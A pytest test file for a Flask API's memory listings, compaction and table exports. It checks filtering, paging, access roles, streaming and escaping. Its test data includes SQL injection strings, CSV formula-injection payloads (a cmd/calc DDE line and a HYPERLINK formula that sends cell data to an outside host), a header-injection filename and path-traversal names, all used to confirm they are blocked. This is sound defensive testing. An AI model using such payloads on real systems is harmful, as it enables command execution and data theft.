"""What is remembered over HTTP: chosen by the database, in pages, on every database; and whole tables as files that hold no more than a page."""

import csv
import io
import json
from types import SimpleNamespace

import pandas as pd
import pytest
from flask import Flask, current_app

from helios.api_base import Services, role_of
from helios.draws_at_hand import DrawsAtHand
from helios.exports import defused, export_answer
from helios.exports_api import EXPORTABLE, rows_of
from helios.memory_store import MemoryStore
from helios.server import create_app
from helios.settings import Settings
from helios.tables import schema


def app_over(store):
    return create_app(Settings(), Services(Settings(), store, None, SimpleNamespace(), {"draws": DrawsAtHand()}))


@pytest.fixture
def store(home, path):
    with MemoryStore(path) as store:
        yield store


@pytest.fixture
def client(store):
    return app_over(store).test_client()


@pytest.fixture
def filled(home, address):
    """A store on SQLite or PostgreSQL with something in each list."""
    with MemoryStore(address) as store:
        for i in range(7):
            name = ("steps", "hot")[i % 2]
            store.store_enhanced_journal_entry(name, f"s{i % 3}", ("assessment", "training_completed")[i % 2], {"i": i}, i / 10)
            store.store_performance_metric(name, "skill_nats", (3 - i) / 100, {"i": i})
            store.store_knowledge_fragment(name, "skill", {"i": i}, i / 10)
            store.log_event("draws_updated" if i % 2 else "started", {"i": i}, "INFO" if i % 3 else "WARNING")
            store.save_prediction(name, {"i": i}, i / 10, f"2026-08-0{i + 1}")
        store.update_prediction_outcome(2, {"drawn": True})
        yield app_over(store).test_client()


LISTS = [
    ("/journal", [6, 5, 4, 3, 2, 1, 0]), ("/journal?model=hot", [5, 3, 1]), ("/journal?event_type=assessment&sort=confidence_score", [0, 2, 4, 6]), ("/journal?session_id=s1&sort=id", [1, 4]),
    ("/journal?which=archived", []), ("/journal?which=all&per_page=2&page=2", [4, 3]), ("/journal?hours=1&model=hot", [5, 3, 1]), ("/journal?model=nobody", []),
    ("/performance-metrics?sort=metric_value&per_page=3", [6, 5, 4]), ("/performance-metrics?sort=-metric_value&model=steps", [0, 2, 4, 6]), ("/performance-metrics?metric=luck", []),
    ("/knowledge", [6, 5, 4, 3, 2, 1, 0]), ("/knowledge?min_relevance=0.35&sort=id", [4, 5, 6]), ("/knowledge?fragment_type=skill&model=hot&sort=-created_at", [5, 3, 1]),
    ("/events/history?level=WARNING", [6, 3, 0]), ("/events/history?event_type=started&sort=timestamp", [0, 2, 4, 6]),
    ("/predictions?sort=draw_date", [0, 1, 2, 3, 4, 5, 6]), ("/predictions?settled=true", [1]), ("/predictions?settled=false&model=hot", [5, 3]), ("/predictions?draw_date=2026-08-04", [3]),
]


def test_lists_are_chosen_and_sorted_by_every_database(filled):
    for path, wanted in LISTS:
        page = filled.get(f"/api{path}").json
        values = [row.get("event_data") or row.get("context") or row.get("content") or row.get("prediction_data") for row in page["items"]]
        assert [value["i"] for value in values] == wanted, path
        assert page["total"] >= len(wanted) and page["pages"] >= 1
    assert filled.get("/api/predictions/2").json["outcome"] == {"drawn": True}


@pytest.mark.parametrize("path", ["/journal?model=a b", "/journal?event_type=a%00b", "/journal?event_type=%0a", "/journal?session_id=", f"/journal?session_id={'x' * 201}", "/knowledge?min_relevance=nan",
                                  "/knowledge?sort=content_hash", "/knowledge?sort=id;drop", "/performance-metrics?hours=-1", "/performance-metrics?hours=1e300", "/predictions?draw_date=soon",
                                  "/predictions?per_page=501", "/predictions?page=1e9", "/events/history?level=LOUD", "/memory/operations?where=1", "/exports/ledger?format=xlsx", "/exports/ledger?model=x"])
def test_what_no_list_takes(filled, path):
    answer = filled.get(f"/api{path}")
    assert answer.status_code == 422 and answer.json["errors"]


def test_sql_in_a_filter_is_a_value(filled):
    for text in ("' OR 1=1 --", "x'; DROP TABLE predictions; --", "%", "_", "\\"):
        assert filled.get("/api/journal", query_string={"event_type": text}).json["total"] == 0
    assert filled.get("/api/predictions").json["total"] == 7


def test_numbers_that_no_column_holds(filled):
    assert [filled.get(f"/api/predictions/{id}").status_code for id in (0, 8, 2**31, 2**63, 2**200)] == [404] * 5
    assert filled.get("/api/predictions?page=1000000").json["items"] == []


def test_statistics_and_compaction(client, store):
    for i in range(5):
        store.store_knowledge_fragment("steps", "skill", {"i": i}, i / 10)
        store.store_enhanced_journal_entry("steps", "s", "said", {"i": i})
    stats = client.get("/api/memory/stats").json
    assert stats["knowledge_fragments_count"] == 5 and stats["total_rows"] >= 10 and stats["compactable"]["archived_journal_entries"] == 0
    counts = client.post("/api/memory/compact", json={"archive_days": 0, "relevance_threshold": 0.25}).json
    assert (counts["archived_journal_entries"], counts["deleted_knowledge_fragments"]) == (5, 3)
    assert client.get("/api/journal").json["total"] == 0 and client.get("/api/journal?which=archived").json["total"] == 5
    operation = client.get("/api/memory/operations").json["items"][0]
    assert (operation["operation"], operation["items_affected"]) == ("compaction", 8)
    assert client.post("/api/memory/compact").status_code == 200
    assert [client.post("/api/memory/compact", json=bad).status_code for bad in ({"archive_days": -1}, {"relevance_threshold": 2}, {"vacuum": True}, [])] == [422] * 4


def test_who_may_compact(client):
    view = client.application.view_functions["memory.compact_memory"]
    assert role_of(view, "POST") == "admin"


# Files


def test_every_table_is_exported_or_kept_on_purpose(client):
    listed = {table["name"]: table["columns"] for table in client.get("/api/exports").json["tables"]}
    assert {*schema.tables} - {*listed} == {"api_keys", "audit_log", "webhooks", "webhook_deliveries", "context_storage"}
    for name, columns in listed.items():
        for format in ("csv", "json", "parquet"):
            answer = client.get(f"/api/exports/{name}?format={format}")
            assert answer.status_code == 200 and f'.{format}"' in answer.headers["Content-Disposition"]
            if format == "csv":
                assert answer.text == ",".join(columns) + "\r\n"


@pytest.mark.parametrize("name", ["api_keys", "webhooks", "webhook_deliveries", "audit_log", "context_storage", "sqlite_master", "alembic_version", "models;drop", "%2e%2e", "a%00b"])
def test_what_never_leaves(client, store, name):
    assert client.get(f"/api/exports/{name}").status_code == 404


def test_a_file_holds_what_the_table_holds(filled):
    frames = {}
    for format, read in (("csv", pd.read_csv), ("json", pd.read_json), ("parquet", pd.read_parquet)):
        frames[format] = read(io.BytesIO(filled.get(f"/api/exports/predictions?format={format}&model=hot").data))
        assert frames[format].id.tolist() == [2, 4, 6] and frames[format].confidence.tolist() == pytest.approx([0.1, 0.3, 0.5])
    assert [json.loads(text)["i"] for text in frames["csv"].prediction_data] == [json.loads(text)["i"] for text in frames["parquet"].prediction_data] == [1, 3, 5]
    assert [value["i"] for value in frames["json"].prediction_data] == [1, 3, 5]


def test_a_long_table_is_read_while_it_is_sent(client, store, monkeypatch):
    """25,000 rows: at the first piece no more than two pages have been read, and all arrive."""
    store.store_performance_metrics([{"model_name": "steps", "metric_name": "skill_nats", "metric_value": i / 7} for i in range(25_000)])
    pages, real = [], MemoryStore._rows
    monkeypatch.setattr(MemoryStore, "_rows", lambda self, query: [pages.append(1), real(self, query)][1])
    for format, most in (("csv", 5), ("json", 5), ("parquet", 22)):
        pages.clear()
        answer = client.get(f"/api/exports/performance_metrics?format={format}", buffered=False)
        pieces = answer.iter_encoded()
        first = next(pieces)
        assert len(pages) <= most, format
        data = first + b"".join(pieces)
        assert len(pages) == 51
        read = {"csv": pd.read_csv, "json": pd.read_json, "parquet": pd.read_parquet}[format]
        assert len(read(io.BytesIO(data))) == 25_000


def test_rows_of_a_table_without_a_number(store):
    for name in ("b", "a", "c"):
        store.save_model_metadata(name, "x", "PowerballNet")
    assert [row["name"] for row in rows_of(store, schema.tables["models"], size=2)] == ["a", "b", "c"]


HARMFUL = ["=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1", " =1", '=HYPERLINK("http://x/?"&A1,"y")', "＝1", "－1+1"]


def test_no_cell_is_a_formula(client, store):
    for text in HARMFUL:
        store.log_event(text, text)
    rows = [*csv.reader(io.StringIO(client.get("/api/exports/system_events?format=csv").text, newline=""))]
    assert [row[1] for row in rows[1:]] == [f"'{text}" for text in HARMFUL]
    assert all(not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")) for row in rows[1:] for cell in row)
    said = client.get("/api/exports/system_events?format=json").json
    assert [row["event_type"] for row in said] == HARMFUL  # other programs get what is there
    assert [defused(text) for text in ("-1.5", "+3e8", "-.5")] == ["-1.5", "+3e8", "-.5"] and defused("-1.5.2").startswith("'")


def test_an_error_of_the_store_is_an_answer_and_not_half_a_file(client, store):
    store.close()
    answer = client.get("/api/exports/predictions")
    assert answer.status_code in (422, 503) and answer.content_type == "application/problem+json"


def test_a_name_or_format_that_is_none():
    with Flask("x").test_request_context():
        assert current_app
        for name, format in (("a\r\nSet-Cookie: x", "csv"), ('a"b', "csv"), ("a", "xlsx"), ("", "csv")):
            with pytest.raises(ValueError, match="plain name"):
                export_answer([], {"a": int}, name, format)


def test_exports_are_listed_with_words():
    assert all(len(about) > 5 for about in EXPORTABLE.values())
